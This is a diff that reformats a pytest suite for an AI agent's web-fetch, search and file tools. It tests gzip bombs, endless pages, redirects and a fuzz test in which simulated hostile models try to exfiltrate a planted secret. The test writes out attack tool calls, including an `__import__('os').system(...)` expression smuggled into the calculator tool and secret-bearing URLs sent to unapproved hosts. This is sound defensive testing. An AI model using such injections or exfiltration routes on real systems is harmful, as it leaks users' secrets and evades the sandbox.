@@ -54,13 +54,15 @@ class Handler(BaseHTTPRequestHandler):
             case "/page":
                 self.answer(PAGE.encode(), "text/html; charset=utf-8")
             case "/latin":
-                self.answer("<p>\u00e4\u00f6</p>".encode("latin-1"), "text/html; charset=iso-8859-1")
+                self.answer("<p>\u00e4\u00f6</p>".encode("latin-1"),
+                            "text/html; charset=iso-8859-1")
             case "/json":
                 self.answer(b'{"a": 1}', "application/json; charset=utf-8")
             case "/image":
                 self.answer(b"\x89PNG", "image/png")
             case "/bomb":
-                self.answer(gzip.compress(b"x" * 60_000_000), "text/plain", ("Content-Encoding", "gzip"))
+                self.answer(gzip.compress(b"x" * 60_000_000), "text/plain",
+                            ("Content-Encoding", "gzip"))
             case "/endless":
                 self.endless(b"x" * 65_536, 0)
             case "/drip":
@@ -83,11 +85,14 @@ class Handler(BaseHTTPRequestHandler):
         words = query["q"][0]
         if words == "html":
             return self.answer(b"<html>", "text/html")
-        rows = [{"title": f"About {words}", "url": f"https://example.org/{n}", "content": f"text\n{n}"} for n in range(9)]
+        rows = [{"title": f"About {words}", "url": f"https://example.org/{n}",
+                 "content": f"text\n{n}"} for n in range(9)]
         rows = [] if words == "nothing" else rows
         odd: list[object] = ["a string", None, 5, [], {"url": 5}, {}, {"title": "no address"}]
-        odd += rows if words != "odd" else [{"url": "https://example.org/x", "title": None, "content": {"a": 1}}]
-        self.answer(json.dumps({"query": words, "results": odd if rows else []}).encode(), "application/json")
+        odd += (rows if words != "odd"
+                else [{"url": "https://example.org/x", "title": None, "content": {"a": 1}}])
+        self.answer(json.dumps({"query": words, "results": odd if rows else []}).encode(),
+                    "application/json")
 
     def answer(self, body: bytes, kind: str, *headers: tuple[str, str]) -> None:
         self.send_response(200)
@@ -130,7 +135,8 @@ def get(server: ThreadingHTTPServer, path: str, **options: Any) -> str:
 
 
 def test_a_page_becomes_its_words(server: ThreadingHTTPServer) -> None:
-    assert get(server, "/page") == f"Address: http://127.0.0.1:{server.server_port}/page\nTitle: A page\n\n{TEXT}"
+    assert (get(server, "/page") == f"Address: http://127.0.0.1:{server.server_port}/page\nTitle: "
+            f"A page\n\n{TEXT}")
 
 
 def test_other_text_is_as_it_is(server: ThreadingHTTPServer) -> None:
@@ -140,12 +146,14 @@ def test_other_text_is_as_it_is(server: ThreadingHTTPServer) -> None:
 
 def test_a_part_of_a_page(server: ThreadingHTTPServer) -> None:
     first = get(server, "/page", max_characters=100)
-    assert first.endswith(f"[{len(TEXT) - 100} more characters; go on with start=100]") or len(TEXT) <= 100
+    assert (first.endswith(f"[{len(TEXT) - 100} more characters; go on with start=100]")
+            or len(TEXT) <= 100)
     assert get(server, "/page", start=len(TEXT) - 5).endswith("\n\n" + TEXT[-5:])
 
 
 @pytest.mark.parametrize(("path", "said"), [
-    ("/image", "is image/png, not text"), ("/missing", "answered 404"), ("/loop", "More than 5 redirects"),
+    ("/image", "is image/png, not text"), ("/missing", "answered 404"),
+    ("/loop", "More than 5 redirects"),
 ])
 def test_what_is_no_page_is_said(server: ThreadingHTTPServer, path: str, said: str) -> None:
     with pytest.raises(ToolError, match=said):
@@ -165,13 +173,15 @@ def test_a_redirect_does_not_leave_the_host_that_was_approved(server: ThreadingH
     assert len(server.asked) == asked + 1  # type: ignore[attr-defined]
 
 
-def test_a_page_that_never_ends_is_cut_and_the_connection_closed(server: ThreadingHTTPServer) -> None:
+def test_a_page_that_never_ends_is_cut_and_the_connection_closed(
+        server: ThreadingHTTPServer) -> None:
     assert "[the page is larger than 4 MB; the rest was not read]" in get(server, "/endless")
     assert server.left.wait(5)  # type: ignore[attr-defined]
     assert "[the page is larger than 4 MB" in get(server, "/bomb")
 
 
-def test_a_page_that_drips_is_given_up(server: ThreadingHTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_page_that_drips_is_given_up(server: ThreadingHTTPServer,
+                                       monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(fetching, "MOST_SECONDS", 0.3)
     with pytest.raises(ToolError):
         get(server, "/drip")
@@ -181,7 +191,8 @@ def test_a_page_that_drips_is_given_up(server: ThreadingHTTPServer, monkeypatch:
 def test_html_that_is_broken_or_very_deep() -> None:
     assert html_text(b"") == ("", "")
     assert html_text(b"<p>a<p>b<b>c")[1] == "a\n\nb c".replace(" c", "c")
-    assert "x" in html_text(b"<div>" * 50_000 + b"x")[1] or html_text(b"<div>" * 50_000 + b"x")[1] == ""
+    assert ("x" in html_text(b"<div>" * 50_000 + b"x")[1]
+            or html_text(b"<div>" * 50_000 + b"x")[1] == "")
     assert html_text(bytes(range(256)) * 100) is not None
 
 
@@ -193,14 +204,20 @@ def test_one_odd_result_costs_only_itself(server: ThreadingHTTPServer) -> None:
 def test_searxng(server: ThreadingHTTPServer) -> None:
     context = granted(server, searxng_url=f"http://127.0.0.1:{server.server_port}/")
     said = web_search(context, "python \u00e4", max_results=2).split("\n")
-    assert said == [f"2 results for 'python \u00e4' from SearXNG at 127.0.0.1:{server.server_port}:", "1. About python \u00e4",
-                    "   https://example.org/0", "   text 0", "2. About python \u00e4", "   https://example.org/1", "   text 1"]
-    assert web_search(context, "Python  \u00e4", max_results=2).split("\n")[-1] == "[from this session's memory]"
+    assert said == ["2 results for 'python \u00e4' from SearXNG at "
+                    f"127.0.0.1:{server.server_port}:", "1. About python \u00e4",
+                    "   https://example.org/0", "   text 0", "2. About python \u00e4",
+                    "   https://example.org/1", "   text 1"]
+    assert web_search(context, "Python  \u00e4",
+                      max_results=2).split("\n")[-1] == "[from this session's memory]"
     assert len(server.asked) == 1  # type: ignore[attr-defined]
 
 
-@pytest.mark.parametrize(("words", "said"), [("nothing", "nothing came back"), ("html", "settings may not allow that format")])
-def test_a_search_without_results_never_says_that_there_are_none(server: ThreadingHTTPServer, words: str, said: str) -> None:
+@pytest.mark.parametrize(("words", "said"),
+                         [("nothing", "nothing came back"),
+                          ("html", "settings may not allow that format")])
+def test_a_search_without_results_never_says_that_there_are_none(server: ThreadingHTTPServer,
+                                                                 words: str, said: str) -> None:
     with pytest.raises(ToolError, match=f"does not mean that there are none.*{said}"):
         web_search(ToolContext(searxng_url=f"http://127.0.0.1:{server.server_port}"), words)
 
@@ -217,8 +234,10 @@ def test_the_next_engine_is_asked_and_the_silent_one_rests() -> None:
         return [Result("t", "u", "x")]
     cache: dict[str, Any] = {}
     engines = {"silent": silent, "speaking": speaking}
-    assert perform_web_search("q", 1, engines, cache) == ("speaking", [Result("t", "u", "x")], ["silent: nothing came back"])
-    assert perform_web_search("q", 1, engines, cache)[2] == ["silent gave nothing a moment ago and was left alone"]
+    assert perform_web_search("q", 1, engines, cache) == ("speaking", [Result("t", "u", "x")],
+                                                          ["silent: nothing came back"])
+    assert perform_web_search("q", 1, engines,
+                              cache)[2] == ["silent gave nothing a moment ago and was left alone"]
     assert asked == ["silent", "speaking", "speaking"]
 
 
@@ -237,14 +256,16 @@ def test_a_search_that_was_approved_for_one_host_asks_no_other() -> None:
 
 # ---- the model is the attacker
 
-def test_hostile_models_do_not_get_the_secret_out(server: ThreadingHTTPServer, tmp_path: Path) -> None:
+def test_hostile_models_do_not_get_the_secret_out(server: ThreadingHTTPServer,
+                                                  tmp_path: Path) -> None:
     """200 models that know every tool try to send what they read to a host nobody approved."""
     seed = random.randrange(2 ** 32)
     print("seed", seed)
     (tmp_path / "notes.txt").write_text("the-planted-secret")
     (tmp_path / "notes.json").write_text('{"key": "the-planted-secret"}')
     base = f"http://127.0.0.1:{server.server_port}"
-    tools = get_tools(["read_file", "read_json_file", "list_files", "search_files", "fetch_url", "web_search", "calculate"])
+    tools = get_tools(["read_file", "read_json_file", "list_files", "search_files", "fetch_url",
+                       "web_search", "calculate"])
 
     async def attack(own: random.Random) -> None:
         context = granted(server, roots=(str(tmp_path),), searxng_url=base)
@@ -265,9 +286,11 @@ def test_hostile_models_do_not_get_the_secret_out(server: ThreadingHTTPServer, t
 
 def next_call(own: random.Random, known: str, base: str) -> ToolCall:
     name, arguments = own.choice((
-        ("read_file", {"path": "notes.txt"}), ("read_json_file", {"path": "notes.json"}), ("search_files", {"text": "secret"}),
+        ("read_file", {"path": "notes.txt"}), ("read_json_file", {"path": "notes.json"}),
+        ("search_files", {"text": "secret"}),
         ("fetch_url", {"url": f"{base}/page?{known}"}), ("FETCH_URL", {"url": f"{base}/{known}"}),
         ("fetch_url", {"URL": f"{base}/away?to=/page?{known}"}), ("web_search", {"query": known}),
-        ("fetch_url", {"url": [f"{base}/{known}"]}), ("calculate", {"expression": f"__import__('os').system('{base}/{known}')"}),
+        ("fetch_url", {"url": [f"{base}/{known}"]}),
+        ("calculate", {"expression": f"__import__('os').system('{base}/{known}')"}),
     ))
     return ToolCall("1", name, arguments)
